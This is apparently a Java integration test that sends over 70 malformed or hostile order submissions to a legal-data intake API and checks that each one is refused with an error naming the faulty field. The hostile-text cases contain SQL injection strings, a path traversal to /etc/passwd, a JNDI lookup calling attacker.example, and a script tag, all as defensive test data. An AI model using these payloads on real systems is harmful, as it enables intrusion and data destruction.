package io.lexroute.intake.it;

import static io.lexroute.intake.it.IntakeApi.ORDERS;
import static io.lexroute.intake.it.IntakeApi.PORTAL;
import static io.lexroute.intake.it.IntakeApi.asPortal;
import static io.lexroute.intake.it.IntakeApi.newKey;
import static io.lexroute.intake.it.IntakeApi.orderCount;
import static io.lexroute.intake.it.IntakeApi.submit;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.lexroute.intake.ValidOrders;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every way a portal can get a submission wrong, or try to break in through one (issue #5 part 3): each case is
 * sent with a valid authority token and must be a 4xx problem naming the field at fault, with nothing stored.
 */
@QuarkusTest
class BadRequestTest {

    private static final int MINIMUM_CASES = 70;

    /**
     * One bad submission: what is sent, and the status and the field the answer must name. {@code earlierBody}, if
     * any, is first submitted (and accepted) under the same key, making the case a reuse of that key.
     */
    record BadRequest(String name, String contentType, String idempotencyKey, byte[] body, int status,
            String field, byte[] earlierBody) {

        /** What the request is, apart from its name and its fresh key: two cases must never send the same thing. */
        String sent() {
            boolean freshKey = idempotencyKey != null && idempotencyKey.startsWith("test-");
            return contentType + "|" + (freshKey ? "fresh key" : idempotencyKey) + "|" + Arrays.hashCode(body)
                    + "|" + (earlierBody == null ? "" : Arrays.hashCode(earlierBody));
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<BadRequest> badRequests() {
        return Stream.of(brokenJson(), wrongTypes(), enums(), missingFields(), unknownFields(), countries(), dates(),
                sizes(), hostileText(), headersAndContentTypes(), reusedKeys()).flatMap(cases -> cases);
    }

    private static Stream<BadRequest> brokenJson() {
        return Stream.of(
                raw("truncated JSON", "{\"externalReference\": \"x\", \"issuedAt\": ", "issuedAt"),
                raw("not JSON at all", "hello", "body"),
                raw("empty body", "", "body"),
                raw("JSON null", "null", "body"),
                raw("an array instead of an order", "[]", "body"),
                raw("a JSON string instead of an order", "\"an order\"", "body"),
                raw("a number instead of an order", "42", "body"),
                raw("trailing garbage", ValidOrders.BELGIAN_SKYPE_ORDER + " and more", "body"),
                raw("single-quoted JSON", "{'externalReference': 'BE-1'}", "body"),
                raw("a comment before the order", "/* portal v2 */ " + ValidOrders.BELGIAN_SKYPE_ORDER, "body"),
                raw("unterminated string", "{\"externalReference\": \"BE-1", "externalReference"),
                raw("NaN as a number", ValidOrders.BELGIAN_SKYPE_ORDER.replace("\"maxCustodialSentenceMonths\": 120",
                        "\"maxCustodialSentenceMonths\": NaN"), "offence.maxCustodialSentenceMonths"),
                raw("duplicate key", ValidOrders.BELGIAN_SKYPE_ORDER.replace("\"provider\": \"skype\",",
                        "\"provider\": \"skype\", \"provider\": \"microsoft\","), "provider"),
                raw("duplicate nested key", ValidOrders.BELGIAN_SKYPE_ORDER.replace("\"country\": \"BE\",",
                        "\"country\": \"BE\", \"country\": \"US\","), "issuingAuthority.country"),
                raw("5000 nested arrays", "[".repeat(5000) + "]".repeat(5000), "body"),
                bytes("invalid UTF-8 in a string", invalidUtf8InTheReference(), "externalReference"));
    }

    private static Stream<BadRequest> wrongTypes() {
        return Stream.of(
                changed("targets is a string", o -> o.put("targets", "live:suspect"), "targets"),
                changed("emergency is a string", o -> o.put("emergency", "yes"), "emergency"),
                changed("emergency is a number", o -> o.put("emergency", 0), "emergency"),
                changed("emergency is null", o -> o.putNull("emergency"), "emergency"),
                changed("sentence is a string", o -> offence(o).put("maxCustodialSentenceMonths", "ten"),
                        "offence.maxCustodialSentenceMonths"),
                changed("offence place is a string", o -> offence(o).put("committedInIssuingState", "true"),
                        "offence.committedInIssuingState"),
                changed("offence place is a number", o -> offence(o).put("committedInIssuingState", 1),
                        "offence.committedInIssuingState"),
                changed("sentence is a fraction", o -> offence(o).put("maxCustodialSentenceMonths", 12.5),
                        "offence.maxCustodialSentenceMonths"),
                changed("sentence is a boolean", o -> offence(o).put("maxCustodialSentenceMonths", true),
                        "offence.maxCustodialSentenceMonths"),
                raw("sentence beyond the integer range", ValidOrders.BELGIAN_SKYPE_ORDER.replace(
                        "\"maxCustodialSentenceMonths\": 120", "\"maxCustodialSentenceMonths\": 99999999999999999999"),
                        "offence.maxCustodialSentenceMonths"),
                changed("issuedAt is a number", o -> o.put("issuedAt", 20171201), "issuedAt"),
                changed("externalReference is an array", o -> o.putArray("externalReference").add("BE-1"),
                        "externalReference"),
                changed("externalReference is a number", o -> o.put("externalReference", 1), "externalReference"),
                changed("issuingAuthority is a string", o -> o.put("issuingAuthority", "Antwerp court"),
                        "issuingAuthority"),
                changed("timeRange is an array", o -> o.putArray("timeRange").add("2017-06-01T00:00:00Z"),
                        "timeRange"),
                changed("provider is a query operator", o -> o.putObject("provider").putNull("$ne"), "provider"),
                changed("legalBasis is a string", o -> o.put("legalBasis", "BE-CCP-88bis"), "legalBasis"),
                changed("validatedBy is a string", o -> authority(o).put("validatedBy", "the court"),
                        "issuingAuthority.validatedBy"),
                changed("subject is an array", o -> o.putArray("subject").add("BE"), "subject"),
                changed("offence categories is a string", o -> offence(o).put("categories", "TERRORISM"),
                        "offence.categories"),
                changed("instrument is a number", o -> o.put("instrument", 1), "instrument"));
    }

    private static Stream<BadRequest> enums() {
        return Stream.of(
                changed("unknown instrument", o -> o.put("instrument", "ROYAL_DECREE"), "instrument"),
                changed("instrument in lower case", o -> o.put("instrument", "epoc"), "instrument"),
                changed("unknown target type", o -> target(o).put("type", "FAX"), "targets[0].type"),
                changed("unknown authority type", o -> authority(o).put("type", "SHERIFF"), "issuingAuthority.type"),
                changed("validated by the police",
                        o -> authority(o).putObject("validatedBy").put("type", "POLICE").put("name", "Police"),
                        "issuingAuthority.validatedBy.type"),
                changed("unknown data category", o -> o.putArray("dataCategories").add("LOCATION"),
                        "dataCategories[0]"),
                changed("unknown offence category", o -> offence(o).putArray("categories").add("PIRACY"),
                        "offence.categories[0]"));
    }

    private static Stream<BadRequest> missingFields() {
        return Stream.of(
                changed("missing externalReference", o -> o.remove("externalReference"), "externalReference"),
                changed("empty externalReference", o -> o.put("externalReference", ""), "externalReference"),
                changed("missing issuingAuthority", o -> o.remove("issuingAuthority"), "issuingAuthority"),
                changed("missing provider", o -> o.remove("provider"), "provider"),
                changed("missing timeRange.to", o -> timeRange(o).remove("to"), "timeRange.to"),
                changed("missing emergency", o -> o.remove("emergency"), "emergency"),
                changed("missing offence description", o -> offence(o).remove("description"),
                        "offence.description"),
                changed("missing target type", o -> target(o).remove("type"), "targets[0].type"),
                changed("null target", o -> o.putArray("targets").addNull(), "targets[0]"),
                changed("null data category", o -> o.putArray("dataCategories").addNull(), "dataCategories[0]"),
                changed("validation without a type", o -> authority(o).putObject("validatedBy").put("name", "Judge"),
                        "issuingAuthority.validatedBy.type"),
                changed("validation without a name", o -> authority(o).putObject("validatedBy").put("type", "JUDGE"),
                        "issuingAuthority.validatedBy.name"));
    }

    private static Stream<BadRequest> unknownFields() {
        return Stream.of(
                changed("unknown field", o -> o.put("priority", "high"), "priority"),
                changed("unknown nested field", o -> authority(o).put("email", "judge@example.be"),
                        "issuingAuthority.email"),
                changed("unknown field in a target", o -> target(o).put("note", "main account"), "targets[0].note"),
                changed("submittedBy in the body", o -> o.put("submittedBy", "us-doj"), "submittedBy"),
                changed("an id in the body", o -> o.put("id", "00000000-0000-0000-0000-000000000001"), "id"),
                changed("a status in the body", o -> o.put("status", "RELEASED"), "status"));
    }

    private static Stream<BadRequest> countries() {
        return Stream.of(
                changed("lower-case country", o -> authority(o).put("country", "be"), "issuingAuthority.country"),
                changed("no such country", o -> authority(o).put("country", "XX"), "issuingAuthority.country"),
                changed("UK, which ISO 3166-1 does not assign", o -> authority(o).put("country", "UK"),
                        "issuingAuthority.country"),
                changed("country with a trailing space", o -> authority(o).put("country", "BE "),
                        "issuingAuthority.country"),
                changed("SQL injection in the country", o -> authority(o).put("country", "BE' OR '1'='1"),
                        "issuingAuthority.country"),
                changed("three-letter residence country", o -> subject(o).put("residenceCountry", "BEL"),
                        "subject.residenceCountry"),
                changed("EU as residence country", o -> subject(o).put("residenceCountry", "EU"),
                        "subject.residenceCountry"),
                changed("empty residence country", o -> subject(o).put("residenceCountry", ""),
                        "subject.residenceCountry"));
    }

    private static Stream<BadRequest> dates() {
        return Stream.of(
                changed("issued in the future", o -> o.put("issuedAt", "2099-01-01"), "issuedAt"),
                changed("issued before 1980", o -> o.put("issuedAt", "1979-12-31"), "issuedAt"),
                changed("issued in the year 10000", o -> o.put("issuedAt", "+10000-01-01"), "issuedAt"),
                changed("issued on 30 February", o -> o.put("issuedAt", "2017-02-30"), "issuedAt"),
                changed("date in another format", o -> o.put("issuedAt", "01/12/2017"), "issuedAt"),
                changed("issuedAt with a time", o -> o.put("issuedAt", "2017-12-01T00:00:00Z"), "issuedAt"),
                changed("empty issuedAt", o -> o.put("issuedAt", ""), "issuedAt"),
                changed("issuedAt as an array of numbers", o -> o.putArray("issuedAt").add(2017).add(12).add(1),
                        "issuedAt"),
                changed("issuedAt as an empty array", o -> o.putArray("issuedAt"), "issuedAt"),
                changed("timeRange.from as an array of numbers", o -> timeRange(o).putArray("from").add(2017).add(6)
                        .add(1).add(0).add(0), "timeRange.from"),
                changed("timeRange.to as an array", o -> timeRange(o).putArray("to").add("2017-11-30T00:00:00Z"),
                        "timeRange.to"),
                changed("from after to", o -> timeRange(o).put("from", "2017-12-01T00:00:00Z"), "timeRange.to"),
                changed("time without an offset", o -> timeRange(o).put("from", "2017-06-01T00:00:00"),
                        "timeRange.from"),
                changed("time in epoch seconds", o -> timeRange(o).put("from", 1496275200), "timeRange.from"),
                changed("month 13", o -> timeRange(o).put("to", "2017-13-30T00:00:00Z"), "timeRange.to"));
    }

    private static Stream<BadRequest> sizes() {
        return Stream.of(
                changed("no targets", o -> o.putArray("targets"), "targets"),
                changed("101 targets", o -> targets(o, 101), "targets"),
                changed("2000 targets", o -> targets(o, 2000), "targets"),
                raw("5000 nested arrays as the targets", ValidOrders.BELGIAN_SKYPE_ORDER.replace(
                        "[{ \"type\": \"ACCOUNT_ID\", \"value\": \"live:suspect.example\" }]",
                        "[".repeat(5000) + "]".repeat(5000)), "body"),
                changed("no categories", o -> o.putArray("dataCategories"), "dataCategories"),
                changed("duplicate categories", o -> o.putArray("dataCategories").add("TRAFFIC").add("TRAFFIC"),
                        "dataCategories"),
                changed("10000 categories", BadRequestTest::tenThousandCategories, "dataCategories"),
                changed("duplicate offence categories",
                        o -> offence(o).putArray("categories").add("TERRORISM").add("TERRORISM"),
                        "offence.categories"),
                changed("21 legal bases", BadRequestTest::tooManyLegalBases, "legalBasis"),
                changed("legal basis of 101 characters", o -> o.putArray("legalBasis").add("B".repeat(101)),
                        "legalBasis[0]"),
                changed("reference of 201 characters", o -> o.put("externalReference", "R".repeat(201)),
                        "externalReference"),
                changed("authority name of 301 characters", o -> authority(o).put("name", "N".repeat(301)),
                        "issuingAuthority.name"),
                changed("description of 2001 characters", o -> offence(o).put("description", "d".repeat(2001)),
                        "offence.description"),
                changed("target value of 513 characters", o -> target(o).put("value", "a".repeat(513)),
                        "targets[0].value"),
                changed("sentence above 100 years", o -> offence(o).put("maxCustodialSentenceMonths", 1201),
                        "offence.maxCustodialSentenceMonths"),
                changed("negative sentence", o -> offence(o).put("maxCustodialSentenceMonths", -1),
                        "offence.maxCustodialSentenceMonths"),
                new BadRequest("huge body", "application/json", newKey(), huge(), 413, "body", null),
                new BadRequest("300 KB of whitespace around an order", "application/json", newKey(),
                        (" ".repeat(300 * 1024) + ValidOrders.BELGIAN_SKYPE_ORDER).getBytes(StandardCharsets.UTF_8),
                        413, "body", null));
    }

    private static Stream<BadRequest> hostileText() {
        return Stream.of(
                changed("control character in a name", o -> authority(o).put("name", "Judge\u0000X"),
                        "issuingAuthority.name"),
                changed("line break in the reference", o -> o.put("externalReference", "BE\nX"),
                        "externalReference"),
                changed("terminal escape sequence in the description",
                        o -> offence(o).put("description", "fraud\u001b[2J\u001b[31mcleared"), "offence.description"),
                changed("DEL in a legal basis", o -> o.putArray("legalBasis").add("BE-CCP\u007f88bis"),
                        "legalBasis[0]"),
                changed("right-to-left override in a target", o -> target(o).put("value", "live:\u202Eelpmaxe"),
                        "targets[0].value"),
                raw("lone surrogate in the description", ValidOrders.BELGIAN_SKYPE_ORDER.replace(
                        "\"criminal organisation, fraud\"", "\"fraud \\ud800 network\""), "offence.description"),
                changed("blank target value", o -> target(o).put("value", "   "), "targets[0].value"),
                changed("provider in capitals", o -> o.put("provider", "Skype"), "provider"),
                changed("empty provider", o -> o.put("provider", ""), "provider"),
                changed("provider of 64 characters", o -> o.put("provider", "p".repeat(64)), "provider"),
                changed("SQL injection in the provider", o -> o.put("provider", "skype'; DROP TABLE orders; --"),
                        "provider"),
                changed("path traversal in the provider", o -> o.put("provider", "../../etc/passwd"), "provider"),
                changed("JNDI lookup in the provider", o -> o.put("provider", "${jndi:ldap://attacker.example/a}"),
                        "provider"),
                changed("script tag as a target type", o -> target(o).put("type", "<script>alert(1)</script>"),
                        "targets[0].type"));
    }

    private static Stream<BadRequest> headersAndContentTypes() {
        return Stream.of(
                new BadRequest("missing Idempotency-Key", "application/json", null, valid(), 400, "Idempotency-Key",
                        null),
                new BadRequest("empty Idempotency-Key", "application/json", "", valid(), 400, "Idempotency-Key",
                        null),
                new BadRequest("Idempotency-Key of 201 characters", "application/json", "k".repeat(201), valid(),
                        400, "Idempotency-Key", null),
                new BadRequest("Idempotency-Key with a non-ASCII letter", "application/json", "cl\u00e9-2017-1",
                        valid(), 400, "Idempotency-Key", null),
                new BadRequest("Idempotency-Key with a tab", "application/json", "key\t2017", valid(), 400,
                        "Idempotency-Key", null),
                new BadRequest("wrong content type", "text/plain", newKey(), valid(), 415, "Content-Type", null),
                new BadRequest("XML", "application/xml", newKey(), "<order/>".getBytes(StandardCharsets.UTF_8), 415,
                        "Content-Type", null),
                new BadRequest("YAML", "application/yaml", newKey(),
                        "externalReference: BE-1\nprovider: skype\n".getBytes(StandardCharsets.UTF_8), 415,
                        "Content-Type", null),
                new BadRequest("an HTML page", "text/html", newKey(),
                        "<form><input name=\"provider\" value=\"skype\"></form>".getBytes(StandardCharsets.UTF_8),
                        415, "Content-Type", null),
                new BadRequest("JSON Patch", "application/json-patch+json", newKey(),
                        "[{\"op\": \"remove\", \"path\": \"/targets\"}]".getBytes(StandardCharsets.UTF_8), 415,
                        "Content-Type", null),
                new BadRequest("octet stream", "application/octet-stream", newKey(), valid(), 415, "Content-Type",
                        null));
    }

    private static Stream<BadRequest> reusedKeys() {
        return Stream.of(
                reused("same key, another reference", o -> o.put("externalReference", "BE-REUSED-OTHER")),
                reused("same key, another target", o -> target(o).put("value", "live:someone.else")),
                reused("same key, emergency added", o -> o.put("emergency", true)),
                reused("same key, offence place stated", o -> offence(o).put("committedInIssuingState", true)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badRequests")
    void isRefusedWithAProblemNamingTheField(BadRequest bad) {
        if (bad.earlierBody() != null) {
            submit(bad.idempotencyKey(), new String(bad.earlierBody(), StandardCharsets.UTF_8)).then().statusCode(202);
        }
        long before = orderCount();

        RequestSpecification request = asPortal().contentType(bad.contentType()).body(bad.body());
        if (bad.idempotencyKey() != null) {
            request.header("Idempotency-Key", bad.idempotencyKey());
        }
        Response response = request.when().post(ORDERS);

        assertThat(response.statusCode()).as(response.asString()).isEqualTo(bad.status());
        assertThat(response.contentType()).as(response.asString()).startsWith("application/problem+json");
        assertThat(response.jsonPath().getInt("status")).isEqualTo(bad.status());
        assertThat(response.jsonPath().getString("type")).startsWith("urn:lexroute:problem:");
        assertThat(response.jsonPath().getString("title")).isNotBlank();
        assertThat(response.jsonPath().getString("detail")).isNotBlank();
        List<String> fields = response.jsonPath().getList("violations.field");
        assertThat(fields).as(response.asString()).contains(bad.field());
        assertThat(orderCount()).isEqualTo(before);
    }

    @Test
    void theCorpusHoldsAtLeast70DistinctCases() {
        List<BadRequest> corpus = badRequests().toList();
        System.out.printf("BadRequestTest: %d bad-request cases (%d distinct requests)%n", corpus.size(),
                corpus.stream().map(BadRequest::sent).distinct().count());

        assertThat(corpus).extracting(BadRequest::name).doesNotHaveDuplicates();
        assertThat(corpus).extracting(BadRequest::sent).doesNotHaveDuplicates();
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(MINIMUM_CASES);
    }

    @Test
    void everyFieldOfTheWrongTypeIsNamedAtOnce() {
        ObjectNode order = ValidOrders.node("BE-BAD-two-wrong-types");
        order.put("emergency", "yes");
        offence(order).put("maxCustodialSentenceMonths", "ten");
        target(order).put("value", 42);
        long before = orderCount();

        Response response = submit(newKey(), ValidOrders.json(order));

        assertThat(response.statusCode()).as(response.asString()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.jsonPath().getString("type")).isEqualTo("urn:lexroute:problem:malformed-json");
        assertThat(response.jsonPath().getList("violations.field")).as(response.asString()).containsExactly(
                "emergency", "offence.maxCustodialSentenceMonths", "targets[0].value");
        assertThat(response.jsonPath().getList("violations.message")).containsExactly(
                "must be true or false", "must be an integer", "must be a string, not 42");
        assertThat(orderCount()).isEqualTo(before);
    }

    @TestHTTPResource(ORDERS)
    URI orders;

    @Test
    void aBodyWithoutAContentTypeIsRefusedToo() throws Exception {
        long before = orderCount();
        // The JDK client, because REST Assured adds a Content-Type of its own to every body.
        HttpRequest untyped = HttpRequest.newBuilder(orders)
                .header("Authorization", "Bearer " + PORTAL)
                .header("Idempotency-Key", newKey())
                .POST(HttpRequest.BodyPublishers.ofByteArray(valid()))
                .build();

        HttpResponse<String> response = HttpClient.newHttpClient().send(untyped, HttpResponse.BodyHandlers.ofString());

        assertThat(response.statusCode()).as(response.body()).isEqualTo(415);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                type -> assertThat(type).startsWith("application/problem+json"));
        assertThat(response.body()).contains("\"field\":\"Content-Type\"", "is required");
        assertThat(orderCount()).isEqualTo(before);
    }

    private static BadRequest raw(String name, String body, String field) {
        return bytes(name, body.getBytes(StandardCharsets.UTF_8), field);
    }

    private static BadRequest bytes(String name, byte[] body, String field) {
        return new BadRequest(name, "application/json", newKey(), body, 400, field, null);
    }

    private static BadRequest changed(String name, Consumer<ObjectNode> change, String field) {
        ObjectNode order = ValidOrders.node("BE-BAD-" + name);
        change.accept(order);
        return raw(name, ValidOrders.json(order), field);
    }

    /** The same tenant's key again, with a changed order: 409, and the first order stays the only one. */
    private static BadRequest reused(String name, Consumer<ObjectNode> change) {
        ObjectNode first = ValidOrders.node("BE-REUSED-" + name);
        ObjectNode second = first.deepCopy();
        change.accept(second);
        return new BadRequest(name, "application/json", newKey(), ValidOrders.json(second)
                .getBytes(StandardCharsets.UTF_8), 409, "Idempotency-Key",
                ValidOrders.json(first).getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] valid() {
        return ValidOrders.json(ValidOrders.node("BE-VALID")).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] huge() {
        ObjectNode order = ValidOrders.node("BE-HUGE");
        offence(order).put("description", "x".repeat(300 * 1024));
        return ValidOrders.json(order).getBytes(StandardCharsets.UTF_8);
    }

    /** The example order with the bytes C3 28 (a lead byte followed by no continuation byte) in its reference. */
    private static byte[] invalidUtf8InTheReference() {
        String[] halves = ValidOrders.BELGIAN_SKYPE_ORDER.split("BE-EXAMPLE-0001", 2);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(halves[0].getBytes(StandardCharsets.UTF_8));
        body.writeBytes(new byte[] {'B', 'E', (byte) 0xC3, (byte) 0x28});
        body.writeBytes(halves[1].getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    private static void targets(ObjectNode order, int count) {
        ArrayNode targets = order.putArray("targets");
        for (int i = 0; i < count; i++) {
            targets.addObject().put("type", "EMAIL").put("value", "user" + i + "@example.com");
        }
    }

    private static void tenThousandCategories(ObjectNode order) {
        ArrayNode categories = order.putArray("dataCategories");
        for (int i = 0; i < 10_000; i++) {
            categories.add(i % 2 == 0 ? "TRAFFIC" : "CONTENT");
        }
    }

    private static void tooManyLegalBases(ObjectNode order) {
        ArrayNode bases = order.putArray("legalBasis");
        for (int i = 0; i < 21; i++) {
            bases.add("BASIS-" + i);
        }
    }

    private static ObjectNode authority(ObjectNode order) {
        return (ObjectNode) order.get("issuingAuthority");
    }

    private static ObjectNode offence(ObjectNode order) {
        return (ObjectNode) order.get("offence");
    }

    private static ObjectNode subject(ObjectNode order) {
        return (ObjectNode) order.get("subject");
    }

    private static ObjectNode timeRange(ObjectNode order) {
        return (ObjectNode) order.get("timeRange");
    }

    private static ObjectNode target(ObjectNode order) {
        return (ObjectNode) ((ArrayNode) order.get("targets")).get(0);
    }
}
